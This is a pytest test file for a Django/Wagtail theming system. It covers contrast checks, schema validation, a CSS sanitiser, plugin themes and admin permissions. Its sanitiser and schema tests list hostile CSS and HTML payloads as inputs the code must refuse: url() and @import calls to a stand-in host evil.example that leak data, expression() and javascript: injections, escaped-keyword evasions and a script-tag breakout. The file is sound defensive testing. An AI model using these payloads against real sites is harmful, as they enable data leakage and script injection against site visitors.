"""Themes (themes/, docs/themes.md): manifests and their JSON Schema, defaults
for missing tokens, WCAG contrast refusal, the CSS sanitiser, plugin themes,
custom themes in the admin (drafts, revisions, publish, permissions), the
organisations' default theme and the pages that use it, and the gallery."""

import json
import logging
import re
import textwrap
from pathlib import Path

import polib
import pytest
from django.contrib.auth import get_user_model
from django.contrib.auth.models import Group
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.urls import reverse
from jsonschema import Draft202012Validator
from wagtail.test.utils.form_data import querydict_from_html

from plugins import registry as plugin_registry
from plugins.signals import register_themes
from tests.factories import make_event, make_expertise, make_institution, publish
from themes import registry
from themes.contrast import contrast_ratio, format_ratio, parse_hex, relative_luminance
from themes.models import CustomTheme, WebTeam
from themes.permissions import web_team_name
from themes.registry import ThemeError, available_themes, get_theme, load_manifest
from themes.sanitiser import sanitise_css
from themes.tokens import CONTRAST_PAIRS, DEFAULTS, TOKEN_NAMES
from themes.validation import schema_errors

THEMES_DIR = Path(registry.__file__).parent
BUILTIN = sorted(p.parent.name for p in THEMES_DIR.glob("*/theme.json"))
THEME_LINK = re.compile(r'<link rel="stylesheet" href="([^"]+)" data-theme="([^"]+)">')


def page_theme(client, html: str) -> tuple[str, str]:
    """(theme name, CSS) of a hub page: its theme is an external stylesheet
    (themes/stylesheets.py), one per page."""
    links = THEME_LINK.findall(html)
    assert len(links) == 1, links
    href, name = links[0]
    response = client.get(href)
    assert response.status_code == 200 and response["Content-Type"].startswith("text/css")
    return name, response.content.decode()
INSTITUTION_THEMES = [name for name in BUILTIN
                      if name not in {"flanders", "light", "dark", "high-contrast"}]


@pytest.fixture(autouse=True)
def fresh_registry():
    registry.forget_themes()
    yield
    registry.forget_themes()
    plugin_registry.forget_states()


def write_theme(folder: Path, manifest: dict, css: str | None = None) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "theme.json").write_text(json.dumps(manifest))
    if css is not None:
        (folder / "theme.css").write_text(css)
    return folder


def manifest(name="test-theme", **tokens):
    return {"name": name, "label": name.title(), "scheme": "light",
            "tokens": {**DEFAULTS, **tokens}}


# --- contrast -------------------------------------------------------------


def test_wcag_contrast_ratio_matches_known_values():
    assert contrast_ratio("#000000", "#ffffff") == pytest.approx(21.0)
    assert contrast_ratio("#fff", "#ffffff") == pytest.approx(1.0)
    assert contrast_ratio("#ffffff", "#000") == contrast_ratio("#000", "#ffffff")
    # the classic limits: #767676 is the lightest grey passing 4.5:1 on white
    assert contrast_ratio("#767676", "#ffffff") >= 4.5 > contrast_ratio("#777777", "#fff")
    assert format_ratio(contrast_ratio("#777777", "#ffffff")) == "4.48:1"
    assert format_ratio(4.4999) == "4.49:1"  # never shown as a passing 4.50
    assert relative_luminance("#ffffff") == pytest.approx(1.0)
    assert parse_hex("#0b5") == (0, 187, 85)
    with pytest.raises(ValueError):
        parse_hex("red")


# --- manifests ------------------------------------------------------------


def test_builtin_themes_are_all_there():
    assert {"flanders", "light", "dark", "high-contrast"} <= set(BUILTIN)
    assert len(INSTITUTION_THEMES) >= 3


@pytest.mark.parametrize("name", BUILTIN)
def test_builtin_theme_matches_schema_and_passes_contrast(name):
    path = THEMES_DIR / name / "theme.json"
    data = json.loads(path.read_text())
    assert schema_errors(data) == []
    assert set(TOKEN_NAMES) <= set(data["tokens"]), "built-in themes set every token"
    theme = load_manifest(path)
    assert theme.name == name and theme.warnings == ()
    for variant in [theme.tokens, {**theme.tokens, **theme.dark_tokens}]:
        for pair in CONTRAST_PAIRS:
            ratio = contrast_ratio(variant[pair.foreground], variant[pair.background])
            assert ratio >= pair.minimum, (name, pair)
    fonts = theme.tokens["font-body"] + theme.tokens["font-heading"]
    assert "url" not in fonts and "@font-face" not in theme.css  # system fonts only


def test_schema_file_is_valid_json_schema():
    schema = json.loads((THEMES_DIR / "theme.schema.json").read_text())
    Draft202012Validator.check_schema(schema)
    assert set(TOKEN_NAMES) <= set(schema["properties"]["tokens"]["properties"])


def test_old_manifest_loads_with_defaults_and_a_warning(tmp_path, caplog):
    """A manifest written before the new tokens existed still loads."""
    old_tokens = {key: DEFAULTS[key] for key in (
        "color-text", "color-text-muted", "color-background", "color-surface",
        "color-accent", "color-on-accent", "color-link", "color-focus", "color-border",
        "color-danger", "font-body", "font-heading", "font-size-base", "radius",
        "space")}
    old_tokens["color-accent"] = "#ffcc00"
    folder = write_theme(tmp_path / "old", {"name": "old", "label": "Old",
                                             "tokens": old_tokens})
    with caplog.at_level(logging.WARNING, logger="themes.registry"):
        theme = load_manifest(folder / "theme.json")
    assert theme.tokens["color-accent"] == "#ffcc00"
    assert theme.tokens["color-highlight"] == DEFAULTS["color-highlight"]
    assert theme.tokens["density"] == "1" and theme.tokens["focus-width"] == "3px"
    assert "missing tokens fall back to the default theme" in caplog.text
    assert "color-highlight" in caplog.text and "motion-duration" in caplog.text
    assert "--hub-color-accent:#ffcc00;" in theme.css_variables()


def test_dark_theme_falls_back_to_dark_defaults(tmp_path):
    folder = write_theme(tmp_path / "night", {
        "name": "night", "label": "Night", "scheme": "dark",
        "tokens": {"color-text": "#ffffff", "color-background": "#000000"}})
    theme = load_manifest(folder / "theme.json")
    assert theme.tokens["color-surface"] != DEFAULTS["color-surface"]
    assert theme.tokens["color-scheme"] == "dark"
    assert "missing tokens" in theme.warnings[0]


def test_contrast_failure_refuses_the_theme_naming_pair_and_ratio(tmp_path):
    folder = write_theme(tmp_path / "grey", manifest("grey", **{
        "color-text-muted": "#999999"}))
    with pytest.raises(ThemeError) as refused:
        load_manifest(folder / "theme.json")
    message = str(refused.value)
    assert "color-text-muted (#999999) on color-background (#ffffff)" in message
    assert "2.85:1" in message and "4.5:1 for normal text" in message


def test_focus_colour_needs_three_to_one(tmp_path):
    folder = write_theme(tmp_path / "pale", manifest("pale", **{
        "color-focus": "#aaaaaa"}))
    with pytest.raises(ThemeError) as refused:
        load_manifest(folder / "theme.json")
    assert "color-focus (#aaaaaa) on color-background (#ffffff)" in str(refused.value)
    assert "2.32:1" in str(refused.value) and "3:1 for focus indicator" in str(
        refused.value)


def test_dark_variant_is_checked_too(tmp_path):
    data = manifest("dusk")
    data["dark_tokens"] = {"color-background": "#111111", "color-text": "#333333"}
    folder = write_theme(tmp_path / "dusk", data)
    with pytest.raises(ThemeError) as refused:
        load_manifest(folder / "theme.json")
    assert "in the dark variant" in str(refused.value)


@pytest.mark.parametrize("tokens, where", [
    ({"color-text": "red"}, "tokens/color-text"),
    ({"font-body": "Arial;}</style><script>alert(1)</script>"}, "tokens/font-body"),
    ({"radius": "expression(alert(1))"}, "tokens/radius"),
    ({"x-custom": "url(https://evil.example/x)"}, "tokens/x-custom"),
    ({"Bad Name": "1"}, "tokens"),
])
def test_schema_refuses_bad_tokens(tmp_path, tokens, where):
    folder = write_theme(tmp_path / "bad", manifest("bad", **tokens))
    with pytest.raises(ThemeError) as refused:
        load_manifest(folder / "theme.json")
    assert "theme.schema.json" in str(refused.value)
    assert any(path.startswith(where) for path, _ in refused.value.schema)


@pytest.mark.django_db
def test_stylesheet_honours_dark_mode_and_reduced_motion():
    theme = get_theme("flanders")
    css = theme.stylesheet(":host")
    assert css.startswith(":host{--hub-color-accent:#ffe615;")
    assert "@media (prefers-color-scheme: dark){:host{" in css
    assert "--hub-color-background:#14171a" in css
    assert "@media (prefers-reduced-motion: reduce){:host{--hub-motion-duration:0ms}}" in css
    assert "prefers-color-scheme: dark" not in get_theme("dark").stylesheet()


# --- the CSS sanitiser ----------------------------------------------------

HOSTILE_CSS = [
    ("@import url(https://evil.example/x.css);", "@import"),
    ("@import 'https://evil.example/x.css';", "@import"),
    (".w{background:url(https://evil.example/?leak)}", "url"),
    (".w{background:URL( 'https://evil.example' )}", "url"),
    ("a[href^=a]{background-image:url(//evil.example/a)}", "url"),
    (".w{background:u\\72l(https://evil.example)}", "backslash"),
    ("@\\69mport 'x.css';", "backslash"),
    (".w{width:expression(alert(1))}", "expression"),
    (".w{background:javascript:alert(1)}", "javascript"),
    (".w{behavior:url(x.htc)}", "behavior"),
    (".w{-moz-binding:url(x.xml#xss)}", "-moz-binding"),
    (".w{color:red}</style><script>alert(1)</script>", '"<"'),
    ("@font-face{font-family:x;src:local(Arial)}", "@font-face"),
    (".w{background-image:image-set('x.png' 1x)}", "image-set"),
    (".w{content:'hi'}", "property content"),
    (".w{position:fixed;top:0;left:0;width:100vw;height:100vh}", "property position"),
    (".w{color:attr(data-secret)}", "function attr()"),
    ("@namespace svg 'http://www.w3.org/2000/svg'; .w{color:red}", "@namespace"),
    ("@media (min-width:1px){@import 'x.css';}", "@import"),
    (".w{font-family:\"unclosed}", "not allowed"),
]


@pytest.mark.parametrize("css, reason", HOSTILE_CSS)
def test_sanitiser_refuses_hostile_css(css, reason):
    result = sanitise_css(css)
    assert not result.ok
    assert any(reason.lower() in p.lower() for p in result.problems), result.problems
    lowered = result.css.lower()
    for word in ("url(", "@import", "expression", "javascript", "<", "\\",
                 "binding", "behavior", "position", "attr(", "@font-face"):
        assert word not in lowered


def test_sanitiser_keeps_ordinary_css_and_normalises_it():
    css = """
    /* cards */
    :host { color: var(--hub-color-text); }
    .w .card:hover, ::part(widget) { background: linear-gradient(#fff, #eee) ;
        border-radius: calc(var(--hub-radius) * 2) !important }
    a[href$=".pdf"]::after { font-family: "Segoe UI", sans-serif; }
    @media (prefers-color-scheme: dark) and (min-width: 40rem) { :host { color: #fff } }
    @supports (display: grid) { .w { display: grid; gap: 1rem } }
    @keyframes pulse { from { opacity: 1 } 50% { opacity: .5 } to { opacity: 1 } }
    """
    result = sanitise_css(css)
    assert result.ok, result.problems
    # every selector is confined to the content (test_theme_frame.py)
    assert result.css.startswith(":hub-scope{color:var(--hub-color-text)}")
    assert "border-radius:calc(var(--hub-radius) * 2) !important" in result.css
    assert '@media (prefers-color-scheme: dark) and (min-width: 40rem){:hub-scope{color:#fff}}' \
        in result.css
    assert "@keyframes pulse{from{opacity:1}50%{opacity:.5}to{opacity:1}}" in result.css


def test_sanitiser_drops_only_the_bad_declaration():
    result = sanitise_css(".w{color:#123456;position:absolute;margin:0}")
    assert result.css == ":hub-scope .w{color:#123456;margin:0}"
    assert result.problems == [".w: the property position is not allowed."]


def test_theme_css_file_is_sanitised(tmp_path, caplog):
    data = {**manifest("styled"), "css": "theme.css"}
    folder = write_theme(tmp_path / "styled", data,
                         css=":host{font-style:italic;position:fixed}")
    theme = load_manifest(folder / "theme.json")
    assert theme.css == ":hub-scope{font-style:italic}"
    assert any("position" in w for w in theme.warnings)
    hostile = write_theme(tmp_path / "hostile", {**manifest("hostile"), "css": "theme.css"},
                          css="@import url(https://evil.example/x.css);:host{color:red}")
    assert load_manifest(hostile / "theme.json").css == ""


# --- the registry, plugins ------------------------------------------------


@pytest.mark.django_db
def test_registry_api_stays_compatible():
    themes = available_themes()
    assert set(BUILTIN) <= set(themes)
    assert all(isinstance(t, registry.Theme) for t in themes.values())
    assert get_theme(None).name == "flanders" == get_theme("no-such-theme").name
    assert get_theme("dark").scheme == "dark"
    assert "--hub-color-text:#1d1d1b;" in get_theme("flanders").css_variables()
    available_themes.cache_clear()  # kept from the functools.cache days
    assert registry.theme_problems() == []


@pytest.fixture
def plugin_theme(tmp_path):
    """A receiver in the (installed, disabled by default) example plugin's
    package, as a theme plugin would connect it in its AppConfig.ready()."""
    folder = write_theme(tmp_path / "campus", {
        **manifest("campus", **{"color-accent": "#005a9c", "color-on-accent": "#ffffff"}),
        "templates": "templates"})
    (folder / "templates").mkdir()
    (folder / "templates" / "footer.html").write_text(
        "<p class=\"campus-footer\">Campus footer for {{ site_name }}</p>")
    clash = write_theme(tmp_path / "clash", manifest("flanders"))

    def campus_themes(sender, **kwargs):
        return [folder, clash, tmp_path / "missing", 42]  # junk is skipped

    campus_themes.__module__ = "hub_csv_export.themes"
    register_themes.connect(campus_themes, weak=False, dispatch_uid="test-campus")
    yield folder
    register_themes.disconnect(dispatch_uid="test-campus")


@pytest.mark.django_db
def test_plugin_theme_appears_only_while_its_plugin_is_enabled(plugin_theme, client,
                                                               site_tree):
    assert "campus" not in available_themes()
    plugin_registry.set_enabled("hub_csv_export", True)  # clears the theme cache
    themes = available_themes()
    assert themes["campus"].source == "plugin"
    assert themes["flanders"].source == "builtin"  # the clash is left out
    problems = registry.theme_problems()
    assert any("flanders (plugin) is left out" in p for p in problems)
    assert any(p.startswith("Theme missing:") for p in problems)
    assert "is left out" not in client.get("/en/themes/").content.decode()
    staff = get_user_model().objects.create_user("staff", "s@example.org", "pw",
                                                 is_staff=True)
    client.force_login(staff)
    assert "Theme flanders (plugin) is left out" in client.get(
        "/en/themes/").content.decode()
    client.logout()
    page = client.get("/en/themes/campus/")
    assert page.status_code == 200
    assert 'class="campus-footer">Campus footer for Flanders Academic Hub' in \
        page.content.decode()
    plugin_registry.set_enabled("hub_csv_export", False)
    assert "campus" not in available_themes()
    assert client.get("/en/themes/campus/").status_code == 404


# --- custom themes in the admin -------------------------------------------


@pytest.fixture
def orgs(site_tree):
    return {"kul": make_institution("KU Leuven", "ku-leuven"),
            "ugent": make_institution("Ghent University", "ugent")}


def member_of(*groups, username="webteam"):
    user = get_user_model().objects.create_user(username, "w@example.org", "pw")
    for name in groups:
        user.groups.add(Group.objects.get(name=name))
    return user


@pytest.fixture
def admin_user(db):
    return get_user_model().objects.create_superuser("root", "root@example.org", "pw")


ADD_URL = "wagtailsnippets_themes_customtheme:add"


def denied(response) -> bool:
    """Wagtail answers a refused admin view with 403 or a redirect to the
    dashboard."""
    return response.status_code == 403 or (
        response.status_code == 302 and response["Location"] == "/admin/")


def url(name, *args):
    return reverse(f"wagtailsnippets_themes_customtheme:{name}", args=args)


def theme_form(client, address, **changes):
    response = client.get(address)
    assert response.status_code == 200, address
    html = response.content.decode()
    form_id = re.search(r'<form[^>]*id="([^"]+)"[^>]*method="POST"', html) or re.search(
        r'<form[^>]*method="POST"[^>]*id="([^"]+)"', html)
    data = querydict_from_html(html, form_id=form_id.group(1) if form_id else None)
    for key, value in changes.items():
        data[key] = value
    return data


def create_theme(client, org, action=None, **fields):
    values = {"label": "Campus blue", "name": "campus-blue",
              "organisation": str(org.pk), **fields}
    data = theme_form(client, reverse(ADD_URL), **values)
    if action:
        data[action] = "1"
    return client.post(reverse(ADD_URL), data)


@pytest.mark.django_db
def test_custom_theme_draft_publish_and_revisions(client, orgs, admin_user):
    client.force_login(admin_user)
    response = create_theme(client, orgs["kul"], color_accent="#003d73",
                            color_on_accent="#ffffff")
    assert response.status_code == 302, response.content.decode()[:2000]
    custom = CustomTheme.objects.get(name="campus-blue")
    assert not custom.live
    assert "campus-blue" not in available_themes()  # a draft is not available

    data = theme_form(client, url("edit", custom.pk), **{"action-publish": "1"})
    assert client.post(url("edit", custom.pk), data).status_code == 302
    assert available_themes()["campus-blue"].tokens["color-accent"] == "#003d73"
    assert available_themes()["campus-blue"].source == "custom"

    # a new draft leaves the published version in place until it is published
    data = theme_form(client, url("edit", custom.pk), color_accent="#5a2d82")
    assert client.post(url("edit", custom.pk), data).status_code == 302
    custom.refresh_from_db()
    assert custom.has_unpublished_changes and custom.color_accent == "#003d73"
    assert available_themes()["campus-blue"].tokens["color-accent"] == "#003d73"
    assert custom.revisions.count() == 3
    history = client.get(url("history", custom.pk))
    assert history.status_code == 200
    latest = custom.latest_revision
    assert client.get(reverse(
        "wagtailsnippets_themes_customtheme:revisions_compare",
        args=[custom.pk, "live", latest.pk])).status_code == 200
    data = theme_form(client, url("edit", custom.pk), **{"action-publish": "1"})
    client.post(url("edit", custom.pk), data)
    assert available_themes()["campus-blue"].tokens["color-accent"] == "#5a2d82"

    assert client.post(url("unpublish", custom.pk)).status_code == 302
    assert "campus-blue" not in available_themes()


@pytest.mark.django_db
def test_admin_shows_contrast_failures_as_form_errors(client, orgs, admin_user):
    client.force_login(admin_user)
    response = create_theme(client, orgs["kul"], color_link="#9ec5fe")
    assert response.status_code == 200
    html = response.content.decode()
    assert "color-link (#9ec5fe) on color-background (#ffffff) has a contrast ratio of" \
        in html
    assert "1.7" in html and "4.5:1 for normal text" in html
    assert not CustomTheme.objects.exists()


@pytest.mark.django_db
def test_admin_refuses_unsafe_css_and_taken_names(client, orgs, admin_user):
    client.force_login(admin_user)
    response = create_theme(client, orgs["kul"],
                            custom_css=".w{background:url(https://evil.example/?c)}")
    assert response.status_code == 200
    assert "url is not allowed in theme CSS." in response.content.decode()
    # the admin speaks the hub's default language, Dutch, to this user
    response = create_theme(client, orgs["kul"], name="flanders")
    assert "De naam flanders is al in gebruik door het builtin-thema Flanders." in \
        response.content.decode()
    response = create_theme(client, orgs["kul"], name="Not A Slug!")
    assert "Kleine letters, cijfers en koppeltekens" in response.content.decode()
    assert not CustomTheme.objects.exists()
    create_theme(client, orgs["kul"], custom_css=":host{font-style:italic}",
                 action="action-publish")
    assert available_themes()["campus-blue"].css == ":hub-scope{font-style:italic}"


@pytest.mark.django_db
def test_web_team_manages_only_its_own_organisations_themes(client, orgs, admin_user):
    kul_team = web_team_name(orgs["kul"])
    assert kul_team == "KU Leuven web team"
    group = Group.objects.get(name=kul_team)
    assert {"add_customtheme", "change_customtheme", "publish_customtheme",
            "delete_customtheme", "lock_customtheme"} <= set(
        group.permissions.values_list("codename", flat=True))
    ugent_theme = CustomTheme.objects.create(name="gent-own", label="Gent own",
                                             organisation=orgs["ugent"])

    stranger = get_user_model().objects.create_user("stranger", "s@example.org", "pw")
    client.force_login(stranger)
    assert client.get(reverse(ADD_URL)).status_code in (302, 403)

    client.force_login(member_of(kul_team))
    add_page = client.get(reverse(ADD_URL)).content.decode()
    assert "KU Leuven" in add_page and "Ghent University" not in add_page
    response = create_theme(client, orgs["kul"], action="action-publish")
    assert response.status_code == 302
    own = CustomTheme.objects.get(name="campus-blue")
    assert own.live and own.organisation_id == orgs["kul"].pk
    listing = client.get(url("list")).content.decode()
    assert "Campus blue" in listing and "Gent own" not in listing
    for view in ("edit", "history", "delete", "unpublish", "usage", "copy", "lock"):
        assert denied(client.get(url(view, ugent_theme.pk))), view
    assert denied(client.post(url("edit", ugent_theme.pk), {"label": "x"}))
    assert denied(client.post(url("delete", ugent_theme.pk)))
    assert CustomTheme.objects.get(pk=ugent_theme.pk).label == "Gent own"
    # a team cannot give its theme to another organisation
    data = theme_form(client, url("edit", own.pk), organisation=str(orgs["ugent"].pk))
    assert client.post(url("edit", own.pk), data).status_code == 200
    assert CustomTheme.objects.get(pk=own.pk).organisation_id == orgs["kul"].pk


@pytest.mark.django_db
def test_live_preview_renders_the_unsaved_theme(client, orgs, admin_user):
    client.force_login(admin_user)
    data = theme_form(client, reverse(ADD_URL), label="Preview me", name="preview-me",
                      organisation=str(orgs["kul"].pk), color_accent="#6a1b9a",
                      color_on_accent="#ffffff")
    answer = client.post(url("preview_on_add"), data)
    assert answer.json()["is_valid"] is True
    html = client.get(url("preview_on_add")).content.decode()
    assert "--hub-color-accent:#6a1b9a;" in html and "Preview me" in html
    assert not CustomTheme.objects.exists()


# --- the organisations' default theme -------------------------------------


@pytest.mark.django_db
def test_default_theme_must_be_available_to_the_organisation(orgs):
    kul, ugent = orgs["kul"], orgs["ugent"]
    kul.default_theme = "kuleuven"
    kul.full_clean()
    kul.default_theme = "no-such-theme"
    with pytest.raises(ValidationError) as refused:
        kul.full_clean()
    assert "'no-such-theme' is not a theme this organisation can use" in str(
        refused.value)
    gent_theme = CustomTheme.objects.create(name="gent-own", label="Gent own",
                                            organisation=ugent)
    gent_theme.save_revision().publish()
    ugent.default_theme = "gent-own"
    ugent.full_clean()
    kul.default_theme = "gent-own"  # another organisation's custom theme
    with pytest.raises(ValidationError):
        kul.full_clean()


@pytest.mark.django_db
def test_stored_unknown_theme_is_kept_and_renders_the_default(orgs, client):
    """Values stored before themes were validated do not block saving."""
    kul = orgs["kul"]
    type(kul).objects.filter(pk=kul.pk).update(default_theme="kuleuven-2019")
    kul.refresh_from_db()
    kul.summary = "Changed"
    publish(kul)
    html = client.get(kul.url).content.decode()
    assert page_theme(client, html)[0] == "flanders"


@pytest.mark.django_db
def test_admin_offers_the_themes_as_a_choice(client, orgs, admin_user):
    client.force_login(admin_user)
    CustomTheme.objects.create(name="gent-own", label="Gent own",
                               organisation=orgs["ugent"]).save_revision().publish()
    html = client.get(f"/admin/pages/{orgs['kul'].pk}/edit/").content.decode()
    select = re.search(r'<select name="default_theme".*?</select>', html, re.S).group()
    for name in BUILTIN:
        assert f'value="{name}"' in select
    assert 'value="gent-own"' not in select
    html = client.get(f"/admin/pages/{orgs['ugent'].pk}/edit/").content.decode()
    assert 'value="gent-own"' in html


@pytest.mark.django_db
def test_organisation_pages_render_in_the_organisations_theme(orgs, client):
    kul = orgs["kul"]
    kul.default_theme = "kuleuven"
    publish(kul)
    event = make_event(kul, title="Leuven info session")
    entry = make_expertise(kul, "Leuven robotics")
    for page in (kul, event, entry):
        name, css = page_theme(client, client.get(page.url).content.decode())
        assert name == "kuleuven", page
        assert "--hub-color-accent:#00407a;" in css
    home = client.get("/nl/").content.decode()
    assert page_theme(client, home)[0] == "flanders"
    assert page_theme(client, client.get(orgs["ugent"].url).content.decode())[0] == (
        "flanders")


@pytest.mark.django_db
def test_custom_theme_css_reaches_the_organisations_pages(orgs, client):
    custom = CustomTheme.objects.create(
        name="kul-custom", label="KUL custom", organisation=orgs["kul"],
        custom_css=".site-footer{font-style:italic}")
    custom.save_revision().publish()
    kul = orgs["kul"]
    kul.default_theme = "kul-custom"
    publish(kul)
    name, css = page_theme(client, client.get(kul.url).content.decode())
    assert name == "kul-custom"
    assert "#main .site-footer{font-style:italic}" in css  # inside the content only


# --- the gallery ----------------------------------------------------------


@pytest.mark.django_db
def test_gallery_shows_every_widget_in_every_theme(client, site_tree):
    response = client.get("/en/themes/")
    assert response.status_code == 200
    html = response.content.decode()
    assert '<script src="/embed/v1/widgets.js" defer></script>' in html
    for name in BUILTIN:
        assert f'id="theme-{name}"' in html
        for element in ("flanders-events", "flanders-calendar", "flanders-expertise",
                        "flanders-search"):
            assert re.search(rf'<{element} theme="{name}" lang="en"[^>]*><a href=', html)
        assert f'href="/en/themes/{name}/"' in html
    assert "Themes that are left out" not in html
    dutch = client.get("/nl/themes/").content.decode()
    assert "<h1>Thema's</h1>" in dutch and "Elke widget in elk thema." in dutch
    sample = client.get("/nl/themes/high-contrast/")
    assert sample.status_code == 200
    assert page_theme(client, sample.content.decode())[0] == "high-contrast"
    assert client.get("/nl/themes/no-such-theme/").status_code == 404
    assert client.get("/nl/themes/%3Cscript%3E/").status_code == 404


@pytest.mark.django_db
def test_web_team_group_follows_a_renamed_organisation(orgs):
    kul = orgs["kul"]
    group = Group.objects.get(name="KU Leuven web team")
    kul.title = "KU Leuven University"
    publish(kul)
    group.refresh_from_db()
    assert group.name == "KU Leuven University web team"


def test_docs_list_every_token():
    docs = (THEMES_DIR.parent / "docs" / "themes.md").read_text()
    for token in TOKEN_NAMES:
        assert f"`{token}`" in docs, token
    assert "theme.schema.json" in docs


@pytest.mark.parametrize("lang", ["nl", "fr", "de"])
def test_theme_strings_are_translated(lang):
    path = THEMES_DIR / "locale" / lang / "LC_MESSAGES" / "django.po"
    entries = [e for e in polib.pofile(str(path)) if not e.obsolete]
    assert entries
    assert not [e.msgid for e in entries if not e.msgstr.strip() or "fuzzy" in e.flags]
    compiled = {e.msgid: e.msgstr for e in polib.mofile(str(path.with_suffix(".mo")))
                if e.msgid}
    assert compiled == {e.msgid: e.msgstr for e in entries}, "run compilemessages"


def test_sanitiser_has_no_quadratic_blow_up():
    css = textwrap.dedent(".w{color:red}") * 1000
    assert len(sanitise_css(css).css) == len(":hub-scope .w{color:red}") * 1000


@pytest.mark.django_db
def test_migrate_gives_existing_organisations_a_web_team(orgs):
    WebTeam.objects.all().delete()
    Group.objects.filter(name__endswith=" web team").delete()
    call_command("migrate", verbosity=0)
    group = Group.objects.get(name="Ghent University web team")
    assert WebTeam.objects.get(group=group).organisation_id == orgs["ugent"].pk
    assert group.permissions.filter(codename="publish_customtheme").exists()
